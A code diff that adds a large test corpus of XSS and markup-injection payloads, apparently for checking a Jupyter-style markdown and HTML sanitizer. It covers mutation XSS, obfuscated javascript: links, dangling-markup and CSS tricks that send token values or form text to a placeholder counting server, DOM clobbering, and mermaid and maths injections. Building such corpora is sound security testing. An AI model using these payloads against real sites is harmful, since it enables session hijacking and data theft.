@@ -163,7 +163,126 @@ _SHAPES = {
 }
 
 
+# Text whose meaning changes when a browser parses it for the second time, or in another namespace.
+_MUTATIONS = {
+    "noscript in an attribute": f'<noscript><p title="</noscript><img src=x onerror={_PWN}>">',
+    "textarea in an attribute": f'<textarea><p title="</textarea><img src=x onerror={_PWN}>">',
+    "title in an attribute": f'<title><a id="</title><img src=x onerror={_PWN}>">',
+    "style within svg": f"<svg><style><img src=x onerror={_PWN}></style></svg>",
+    "comment within svg's style": f'<svg></p><style><a id="</style><img src=x onerror={_PWN}>">',
+    "form in a form in maths": f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_PWN}>",
+    "mathml annotation": f'<math><annotation-xml encoding="text/html"><style><img src=x onerror={_PWN}></style></annotation-xml></math>',
+    "mathml href": f'<math href="javascript:{_PWN}"><mi xlink:href="javascript:{_PWN}">click</mi></math>',
+    "select and table": f"<select><template><style></select><table><tr><img src=x onerror={_PWN}></table>",
+    "template's shadow": f"<div><template shadowrootmode=open><img src=x onerror={_PWN}></template></div>",
+    "deep nesting": "<div>" * 600 + f"<svg><style><img src=x onerror={_PWN}>",
+    "doctype and conditional comment": f"<!DOCTYPE html><!--[if true]><img src=x onerror={_PWN}><![endif]-->",
+    "noembed, noframes and listing": f"<noembed><noframes><listing></noembed></noframes><img src=x onerror={_PWN}>",
+    "duplicate attributes": f'<img src=x src=y alt="`" onerror="{_PWN}" onerror=x>',
+    "backquotes as quotes": f"<img src=`x` onerror=`{_PWN}`> <img alt=``onerror={_PWN} src=x>",
+    "code that opens a tag": f'<a title="`" href=`">` <img src=x onerror={_PWN}>',
+    "emphasis inside of a tag": f'<img *src="x"* onerror="{_PWN}"> *<img* src=x onerror={_PWN}*>*',
+    "tag split by a link": f"<img src=[x](http://h/) onerror={_PWN}> [<img src=x](http://h/) onerror={_PWN}>",
+    "tag split by a hard line break": f"<img src=x  \nonerror={_PWN}\\\n>",
+}
+
+# Text that is to be joined with what follows it, or that counts on what the page already has.
+_LEFT_OPEN = {
+    "attribute left open": '<img src="{hit}/dangling?',
+    "unquoted attribute left open": "<img src={hit}/unquoted?",
+    "target left open": "<a href={hit}/window><b>x</b></a><base target='",
+    "comment left open": "x <!-- everything below is gone",
+    "style left open": "<style>*{display:none}",
+    "textarea left open": '<form action="{hit}/textarea"><input type=submit><textarea name=stolen>',
+    "select left open": "<select><option>",
+    "meta charset and policy": '<meta charset="utf-7"><meta http-equiv="Content-Security-Policy" content="img-src *">+ADw-script+AD4-',
+    "meta sets a cookie": '<meta http-equiv="Set-Cookie" content="pwned=1"><meta name="referrer" content="unsafe-url">',
+    "base by target": '<base target="_self" href="{hit}/base/">\n\n[x](http://h/) ![y]({hit}/base.png)',
+    "import map": '<script type="importmap">{"imports": {"x": "{hit}/map.js"}}</script>',
+    "speculation rules": '<script type="speculationrules">{"prefetch":[{"urls":["{hit}/speculated"]}]}</script>',
+    "preload by link": '<link rel=modulepreload href="{hit}/module.js"><link rel=icon href="{hit}/icon.ico"><link rel="dns-prefetch" href="//h">',
+    "css that reads the token": '<style>input[value^="a"]{background:url({hit}/a)}@font-face{font-family:x;src:url({hit}/font)}p{font-family:x}</style>x',
+    "css in old ways": '<p style="behavior:url({hit}/x.htc);-moz-binding:url({hit}/x.xml);width:expression(alert(1))">x</p>',
+    "css escapes": '<p style="background:\\75\\72\\6c({hit}/escaped.png);p\\6fsition:fixed">x</p>',
+    "css animation": f"<style>@keyframes x{{}}</style><p style='animation:x' onanimationstart='{_PWN}'>x</p>",
+    "clobbered document": '<img name="getElementById"><form name="body"><input name="attributes"></form><a id="jupyterapp"></a>',
+    "clobbered twice": '<a id="pwned"></a><a id="pwned" name="x" href="cid:y"></a><iframe name="jupyterapp" srcdoc="x"></iframe>',
+    "command linker": "<a data-commandlinker-command='apputils:reset' data-commandlinker-args='{}' href='#'>click</a>",
+    "command linker in markdown": '[x](#){data-commandlinker-command="notebook:run-all-cells"} ![y](z){onclick=alert(1)}',
+    "jupyter's own classes": '<div class="jp-Dialog jp-mod-hidden lm-Menu"><div class="jp-RenderedText" data-mime-type="text/html">x</div></div>',
+    "popover and dialog": f'<button popovertarget=x onclick="{_PWN}">y</button><div popover id=x>z</div><dialog open>Your token</dialog>',
+    "custom element": f"<x-y onclick={_PWN} tabindex=1 autofocus onfocus={_PWN} contenteditable is=script>x</x-y>",
+    "marquee and keygen": f"<marquee onstart={_PWN}>x</marquee><keygen autofocus onfocus={_PWN}><isindex action=javascript:{_PWN}>",
+    "picture and track": '<picture><source srcset="{hit}/source.png"><img></picture><video><track default src="{hit}/track.vtt"></video>',
+    "svg that changes an address": f'<svg><a><set attributeName=href to="javascript:{_PWN}" /><text y=9>x</text></a><feImage href="{{hit}}/fe.png"/></svg>',
+    "svg filter and mask": '<svg style="filter:url({hit}/filter.svg#x);mask:url({hit}/mask.svg#x)"><rect fill="url({hit}/fill.svg#x)"/></svg>',
+}
+
+_ODD_ADDRESSES = {
+    "javascript with odd letters": f"[a](\u200bjavascript:{_PWN}) [b](java\u00adscript:{_PWN}) [c](\u2028javascript:{_PWN}) [d](\ufeffjavascript:{_PWN})",
+    "javascript with a wide colon": f"[a](javascript\uff1a{_PWN}) [b](ｊａｖａｓｃｒｉｐｔ:{_PWN}) [c](javaſcript:{_PWN}) [d](јavascript:{_PWN})",
+    "javascript by backslash": f"[a](java\\script:{_PWN}) [b](\\javascript:{_PWN}) [c](javascript\\:{_PWN})",
+    "javascript by long entities": f"[a](&#0000106avascript&#x3A;{_PWN}) [b](&Tab;javascript:{_PWN}) [c](java&NewLine;script:{_PWN})",
+    "javascript behind an address": f"[a](javascript://http://h/%0a{_PWN}) [b](http://h/\njavascript:{_PWN}) [c](x-http://h/)",
+    "data in odd ways": f"[a](data:;base64,{_PWN_B64}) [b](DATA:text/html,<script>{_PWN}</script>) <data:,x> [c](data&colon;text/html,x)",
+    "wide brackets": f"＜img src=x onerror={_PWN}＞ ‹script›{_PWN}‹/script› ﹤img src=x onerror={_PWN}﹥ <ımg src=x onerror={_PWN}>",
+    "utf-7 and overlong": f"+ADw-script+AD4-{_PWN}+ADw-/script+AD4- %3Cimg src=x onerror={_PWN}%3E \\u003cscript\\u003e \\x3cscript\\x3e",
+    "invisible letters in a tag": f"<\u200bimg src=x onerror={_PWN}> <i\u200dmg src=x onerror={_PWN}> <img\u00a0src=x\u3000onerror={_PWN}> <\ufeffscript>",
+    "tag characters": f"<img src=x onerror={_PWN}>"
+    + "".join(chr(0xE0000 + ord(one)) for one in "<script>window.pwned=1</script>"),
+    "form feed and vertical tab": f"<img\x0csrc=x\x0conerror={_PWN}> <img\x0bsrc=x\x0bonerror={_PWN}> <svg\x85onload={_PWN}>",
+    "user and password": "[bank.com](http://bank.com@127.0.0.1:1/) <http://user:secret@h/> [x](http://[::1]:1/) [y](http://[h/)",
+    "addresses that no browser reads": "[a](http://[h/) [b](http://h:99999/) [c](http://1.2.3.999/) [d](http://h:x/) [e](http://%5Bh/) <http://@/../logout>",
+    "tokens by broken addresses": "[a](https://[h/files/x) [b](https://@/../../lab) <https://h^h/> ![c](https://h|h/) [d](https://:80/)",
+    "local app links": "[a](ms-msdt:/id) [b](vscode://file/x) [c](intent:#Intent;end) [d](tel:1) [e](about:blank) [f](ws://h/) [g](jar:http://h/!/)",
+    "mailto with more": '[x](mailto:a@b.c?bcc=d@e.f&body=%0d%0a) [y](mailto://h/) [z](mailto:) <a@b.c> <a@b.c"onclick=x>',
+    "script behind a fragment": f'[x](#"onclick="{_PWN}) [y](#:~:text=x) [z](#jp-main-dock-panel) [w](#<img src=x onerror={_PWN}>)',
+    "reference over lines": f"[x]\n\n[x]:\n<javascript:{_PWN}>\n'title\nover \"onmouseover={_PWN} lines'",
+    "reference with a tag for a name": f'[<img src=x onerror={_PWN}>][]\n\n[<img src=x onerror={_PWN}>]: http://h/ "<img src=x onerror={_PWN}>"',
+    "reference twice": f"[x]\n\n[x]: javascript:{_PWN}\n[X]: http://h/\n[ｘ]: data:text/html,x",
+    "reference within a quotation and a list": f"> [x]: javascript:{_PWN}\n\n- [y]: <{{hit}}/y>\n\n[x] ![y]",
+    "link in a link": f"[a [b](javascript:{_PWN}) c](http://h/) [<http://h/>](javascript:{_PWN}) [![x](javascript:{_PWN})](data:x)",
+    "link with brackets in its address": f"[x](http://h/(a)\"onclick={_PWN}) [y](<http://h/)\n[z](javascript:{_PWN}> 't')",
+    "image with a javascript address": f'![x](javascript:{_PWN}) ![y](JAVASCRIPT:{_PWN} "t") ![z](//127.0.0.1:1/z.png)',
+    "bare addresses": f"{{hit}}/bare www.127.0.0.1 javascript:{_PWN} http://h/<img src=x onerror={_PWN}>",
+}
+
+_FORMS = {
+    "mermaid": f'```mermaid\ngraph TD\nA[<img src=x onerror={_PWN}>] --> B\nclick A javascript:{_PWN}\nclick B href "{{hit}}/mermaid"\n```',
+    "mermaid with settings": "```mermaid\n%%{init: {'securityLevel': 'loose', 'themeCSS': '*{background:url({hit}/css.png)}'}}%%\ngraph LR\nA\n```",
+    "fences that other tools run": f'```html+script\n<script>{_PWN}</script>\n```\n\n```vega-lite\n{{"data": {{"url": "{{hit}}/vega"}}}}\n```\n\n```svg\n<svg onload={_PWN}>\n```',
+    "fence with entities for a name": f"```&quot;onclick=&quot;{_PWN}\nx\n```\n\n```python&#34;&gt;&lt;img src=x onerror={_PWN}&gt;\nx\n```",
+    "fence with escapes inside": f"```python\n\x1b[31m<img src=x onerror={_PWN}>\x1b]8;;javascript:{_PWN}\x07x\x1b[0m\n```",
+    "fence closed by another": f"````html\n```\n<img src=x onerror={_PWN}>\n~~~\n````\n~~~\n```\n<img src=x onerror={_PWN}>",
+    "fence in a list and a quotation": f"- ```html\n  </ul><script>{_PWN}</script>\n> ```\n> </blockquote><img src=x onerror={_PWN}>\n<img src=x onerror={_PWN}>",
+    "code in highlighting's words": f"```html\n<p class=\"x\" title='</span></pre><img src=x onerror={_PWN}>'>&lt;script&gt;\n```",
+    "code that leaves its string": f"```javascript\n`${{<img src=x onerror={_PWN}>}}` /*</pre>*/ '</div><script>{_PWN}</script>\n```",
+    "setext headings": f"<img src=x onerror={_PWN}>\n===\n\n<script>{_PWN}</script>\n---\n\n[x](javascript:{_PWN})\n===",
+    "table of code and maths": f"| `a` | $x|<img src=x onerror={_PWN}>$ |\n|:-:|--|\n| [x](javascript:{_PWN}\\|y) | `\\|`<img src=x onerror={_PWN}> |",
+    "table that ends in a tag": f"| a <table><tr> | b |\n|--|--|\n| <td onclick={_PWN}> | </tr></table> |\n<img src=x onerror={_PWN}>",
+    "definition and abbreviation": f"*[x]: <img src=x onerror={_PWN}>\n\nx\n: <img src=x onerror={_PWN}>\n\n==x== ^y^ ~z~ :smile: {{{{x}}}}",
+    "directives": "```{raw} html\n<script>window.pwned=1</script>\n```\n\n:::{figure} {hit}/directive.png\n:::\n\n{raw}`<img src=x>` {math}`\\href{x}{y}`",
+    "task list and checkbox": f"- [ ] <input type=checkbox onclick={_PWN}>\n- [x](javascript:{_PWN})",
+    "footnote with a fence": f"x[^1]\n\n[^1]: ```html\n    <script>{_PWN}</script>\n    ```\n    ![x]({{hit}}/note.png)",
+    "footnote in itself": f"x[^a]\n\n[^a]: y[^b] z[^a] <img src=x onerror={_PWN}>\n[^b]: w[^a] [l](javascript:{_PWN})",
+    "maths with entities": f"$&lt;img src=x onerror={_PWN}&gt;$ $$&#60;script&#62;{_PWN}&#60;/script&#62;$$ \\(\\lt img\\gt\\)",
+    "maths that closes the maths": f"$x</span></div><img src=x onerror={_PWN}>$ $$y</mjx-container><script>{_PWN}</script>$$",
+    "maths delimiters in maths": f"$\\text{{$$\\href{{javascript:{_PWN}}}{{x}}$$}}$ $$a \\) \\href{{javascript:{_PWN}}}{{b}} \\($$",
+    "maths within words and links": f"[$x$](javascript:{_PWN}) [x $](http://h/$\\href{{javascript:{_PWN}}}{{y}}$) $a](javascript:{_PWN})$",
+    "maths that looks like a command": "$\\mathrm\\href{javascript:1}{x} \\operatorname\\cssId{jp-main-dock-panel}{x} \\text\\style{position:fixed}{x}$",
+    "comment in maths": f"$x %\\\n\\href{{javascript:{_PWN}}}{{y}}$ $$a % }} $\n\\class{{jp-Dialog}}{{x}}$$",
+    "large matrix": "$\\begin{matrix}"
+    + "x&" * 300
+    + "\\end{matrix}$ $\\begin{array}{"
+    + "c" * 300
+    + "}x\\end{array}$",
+    "wide spaces": "$" + "\\hspace{99em}" * 40 + "x$ $" + "\\qquad" * 400 + "y$",
+    "tall stacks": "$" + "\\overset{x}{" * 30 + "y" + "}" * 30 + "$ $" + "x^{" * 30 + "y" + "}" * 30 + "$",
+    "colours of the page": "$\\color{transparent}{x} \\colorbox{white}{\\color{white}{hidden}} \\textcolor{var}{y} \\color{inherit}z$",
+}
+
+
 def corpus(hit: str) -> list[tuple[str, str]]:
     """Every answer, with the counting server's address put in."""
-    groups = (_TAGS, _ADDRESSES, _MATHS, _SHAPES)
+    groups = (_TAGS, _ADDRESSES, _MATHS, _SHAPES, _MUTATIONS, _LEFT_OPEN, _ODD_ADDRESSES, _FORMS)
     return [(name, text.replace("{hit}", hit)) for group in groups for name, text in group.items()]
